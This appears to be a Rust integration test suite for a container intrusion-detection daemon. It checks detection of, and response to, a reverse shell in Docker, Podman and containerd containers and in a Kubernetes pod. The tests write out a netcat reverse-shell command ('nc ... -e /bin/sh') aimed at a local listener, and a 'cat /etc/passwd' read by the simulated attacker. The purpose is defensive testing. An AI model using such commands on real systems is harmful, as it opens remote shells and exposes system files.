//! The commands of the response plan, run for real against the container that a finding is of.

use std::fmt::Write as _;
use std::os::unix::net::UnixDatagram;
use std::process::{Command, Stdio};
use std::time::Instant;

use serde_json::Value;

use crate::attack::Identity;
use crate::common::DEADLINE;
use crate::common::attacker::Listener;
use crate::common::daemon::{Daemon, Place, TETHERD, tetherd};
use crate::common::victim::Victim;
use crate::containerd::Containerd;
use crate::cri::Pod;
use crate::docker::{Api, Docker};
use crate::home::Home;
use crate::podman::Podman;
use crate::{require, require_containerd, require_docker, require_podman};

/// Programs of the machine itself that the plan names and that are everywhere.
const PLAIN: [&str; 9] = ["cat", "cp", "hostname;", "ls", "nsenter", "ps", "sha256sum", "test", "tetherd"];

/// A response to a reverse shell in a container, by its plan alone. `client` is the runtime's, as the plan calls it;
/// `with` is how it is reached here; `resumes` undoes the plan's pause.
fn respond(
    home: &Home,
    identity: Identity,
    start: &dyn Fn(&str) -> Command,
    client: &str,
    with: &str,
    resumes: &str,
) {
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let mut session = attacker.accept();
    let found = daemon.wait_for("the reverse shell", |record| record.peer_port() == Some(attacker.port()));
    identity.is_in(&found);
    let spool = daemon.place().spool().display().to_string();
    let output = tetherd(&["explain", found.id(), "--json", "--spool", &spool]);
    let plan: Value = serde_json::from_slice(&output.stdout).unwrap();
    let evidence = home.text(&format!("evidence-{}", found.id()));
    std::fs::create_dir(&evidence).unwrap();
    let steps = plan["steps"].as_array().unwrap().iter();
    let commands = steps.flat_map(|step| step["commands"].as_array().unwrap().clone());
    let (mut looked, mut of_client, mut changing) = (0, 0, Vec::new());
    for command in commands {
        let line = command["command"].as_str().unwrap().replace("<EVIDENCE_DIRECTORY>", &evidence);
        let first = line.split(' ').next().unwrap();
        let own = line.strip_prefix(client).filter(|_| first == client);
        if own.is_none() && !PLAIN.contains(&first) {
            continue;
        }
        // The plan's program, where the test has it.
        let line = match (own, line.strip_prefix("tetherd ")) {
            (Some(rest), _) => format!("{with}{rest}"),
            (None, Some(rest)) => format!("{TETHERD} {rest}"),
            (None, None) => line.clone(),
        };
        if command["changes"] == true {
            changing.push((own.is_some(), line));
            continue;
        }
        let output = home.try_bash(&line);
        assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
        looked += 1;
        of_client += usize::from(own.is_some());
    }
    assert!(looked > 8 && of_client >= 2, "{looked} commands, {of_client} of {client}");
    let copy = std::fs::read(format!("{evidence}/{}-exe", found.id())).unwrap();
    assert!(copy == std::fs::read("/bin/busybox").unwrap(), "the program that was kept");
    for (own, line) in &changing {
        assert!(*own, "{line}");
        home.bash(line);
        if line.contains("pause") {
            home.bash(&format!("{with} {resumes} {}", identity.id));
        }
    }
    assert!(!changing.is_empty());
    // The container was stopped, and the shell's connection is gone with it; of a pod that takes crictl.
    if changing.iter().any(|(_, line)| !line.contains("pause")) {
        session.rest();
    }
    drop((session, victim));
}

#[test]
fn responds_with_docker() {
    require_docker!();
    require!("ss", "nsenter");
    let container = Docker::shared().sleeper();
    let with = container.docker.cli(Api::Unix, "");
    let identity = Identity::new(&container.id, "docker");
    respond(
        &container.docker.home,
        identity,
        &|line| container.exec(line),
        "docker",
        with.trim_end(),
        "unpause",
    );
}

#[test]
fn responds_with_podman() {
    require_podman!();
    require!("ss", "nsenter");
    let container = Podman::shared().sleeper("runc");
    let with = container.podman.cli("");
    let identity = Identity::new(&container.id, "podman");
    respond(
        &container.podman.home,
        identity,
        &|line| container.exec(line),
        "podman",
        with.trim_end(),
        "unpause",
    );
}

#[test]
fn responds_with_ctr() {
    require_containerd!();
    require!("ss", "nsenter");
    let task = Containerd::shared().sleeper();
    let with = task.containerd.ctr("");
    let identity = Identity::new(&task.id, "containerd");
    respond(&task.containerd.home, identity, &|line| task.exec(line), "ctr", with.trim_end(), "task resume");
}

#[test]
fn responds_with_ctr_in_a_pod() {
    require_containerd!();
    require!("ss", "nsenter");
    let pod = Pod::run("sleep 600");
    let with = pod.containerd.ctr("");
    let identity = Identity { pod_uid: &pod.uid, ..Identity::new(&pod.id, "containerd") };
    respond(
        &pod.containerd.home,
        identity,
        &|line| pod.exec(line),
        "ctr",
        with.trim_end(),
        "-n k8s.io task resume",
    );
}

/// Somebody who has nothing but the line in syslog: which pod, what was run, by whom; keep it, stop it. What is typed and
/// what is answered goes into `target/tmp/respond-transcript.txt`, with the seconds since the attack.
#[test]
fn responds_from_the_line_alone() {
    require_containerd!();
    require!("sha256sum");
    let place = Place::new("");
    let syslog = UnixDatagram::bind(place.path("log")).unwrap();
    syslog.set_read_timeout(Some(DEADLINE)).unwrap();
    let pod = Pod::run("sleep 600");
    let state = pod.containerd.home.text("state");
    place.configure(&format!(
        "[syslog]\nenabled = true\npath = \"{}\"\n[enrich]\nevidence_copy = true\ncontainerd_directories = [\"{state}\"]\n",
        place.path("log").display()
    ));
    let daemon = Daemon::start_in(&place);
    let attacker = Listener::tcp();
    let mut command = pod.exec(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let begun = Instant::now();
    let victim = Victim::spawn(command);
    let mut session = attacker.accept();
    session.run("cat /etc/passwd");

    let line = loop {
        let mut bytes = [0; 16 << 10];
        assert!(begun.elapsed() < DEADLINE, "no line in syslog that names the pod");
        let length = syslog.recv(&mut bytes).expect("a line in syslog, in time");
        let line = String::from_utf8_lossy(&bytes[..length]).into_owned();
        // The first line waits a few milliseconds for the pod's name, and no more: the next one has it.
        if line.contains(&format!("\"peer_port\":{}", attacker.port())) && line.contains("\"pod\":") {
            break line;
        }
    };
    let mut transcript = String::new();
    let mut wrote = |typed: &str, answered: &str| {
        let at = begun.elapsed().as_secs_f32();
        writeln!(transcript, "[{at:6.2} s] {typed}\n{answered}").unwrap();
    };
    wrote("(syslog)", &line);
    let told: Value = serde_json::from_str(line.split_once("@cee: ").unwrap().1).unwrap();
    assert_eq!((&told["pod"], &told["user"]), (&pod.name.as_str().into(), &"root".into()), "{line}");
    let id = told["id"].as_str().unwrap();
    let spool = place.spool().display().to_string();
    daemon.wait_for("the commands", |record| record.id() == id && record.count() >= 2);
    let shown = tetherd(&["show", id, "--spool", &spool]).stdout;
    let shown = String::from_utf8(shown).unwrap();
    wrote(&format!("tetherd show {id}"), &shown);
    for part in [pod.name.as_str(), "cat /etc/passwd", "as root"] {
        assert!(shown.contains(part), "no {part} in {shown}");
    }
    let plan = tetherd(&["explain", id, "--json", "--spool", &spool]).stdout;
    let plan: Value = serde_json::from_slice(&plan).unwrap();
    let steps = plan["steps"].as_array().unwrap().iter();
    let commands: Vec<String> = steps
        .flat_map(|step| step["commands"].as_array().unwrap().clone())
        .map(|command| command["command"].as_str().unwrap().to_owned())
        .collect();
    let with = pod.containerd.ctr("");
    let bundles = pod.containerd.home.text("case");
    std::fs::create_dir(&bundles).unwrap();
    let mut paste = |beginning: &str| {
        let line = commands
            .iter()
            .find(|line| line.starts_with(beginning))
            .unwrap_or_else(|| panic!("no {beginning}"));
        let here = line.replace("<EVIDENCE_DIRECTORY>", &bundles);
        let here = match (here.strip_prefix("tetherd "), here.strip_prefix("ctr ")) {
            (Some(rest), _) => format!("{TETHERD} {rest}"),
            (_, Some(rest)) => format!("{} {rest}", with.trim_end()),
            (None, None) => here,
        };
        let answered = pod.containerd.home.bash(&here);
        wrote(line, &answered);
    };
    paste("ctr -n k8s.io task pause");
    paste("tetherd evidence");
    let bundle = format!("{bundles}/{id}-evidence");
    pod.containerd.home.bash(&format!("cd {bundle} && sha256sum --check --quiet SHA256SUMS"));
    assert!(std::fs::read(format!("{bundle}/live/{}/exe", told["pid"].as_str().unwrap())).is_ok());
    paste("kill -KILL");
    pod.containerd.home.bash(&format!("{} -n k8s.io task resume {}", with.trim_end(), pod.id));
    session.rest();
    wrote("(the shell has hung up)", "");
    std::fs::write(concat!(env!("CARGO_TARGET_TMPDIR"), "/respond-transcript.txt"), transcript).unwrap();
    drop((session, victim));
}
